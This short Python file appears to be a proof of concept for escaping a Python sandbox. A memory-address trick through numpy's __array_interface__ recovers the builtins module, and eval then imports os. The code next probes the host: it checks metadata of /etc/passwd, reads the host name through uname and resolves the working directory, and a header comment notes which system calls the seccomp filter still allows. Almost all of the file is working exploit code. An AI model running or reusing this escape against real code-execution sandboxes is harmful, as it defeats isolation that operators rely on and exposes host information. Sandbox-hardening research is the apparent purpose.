# After an escape, the seccomp filter still allows stat, readlink and uname: host file
# metadata, the host name and the scratch path can be read even though open() is denied.
import math

import numpy as np


def escape():
    getattr(math, "__init__")("math", {"__array_interface__": {
        "shape": (1,), "typestr": "|O", "version": 3, "data": (id(len) + 24, False)}})
    return np.asarray(math)[0]


def f():
    b = escape()
    os = b.eval("__import__('os')", {"__builtins__": b})
    return [os.stat("/etc/passwd").st_size > 0, b.len(os.uname().nodename) > 0,
            os.readlink("/proc/self/cwd")]
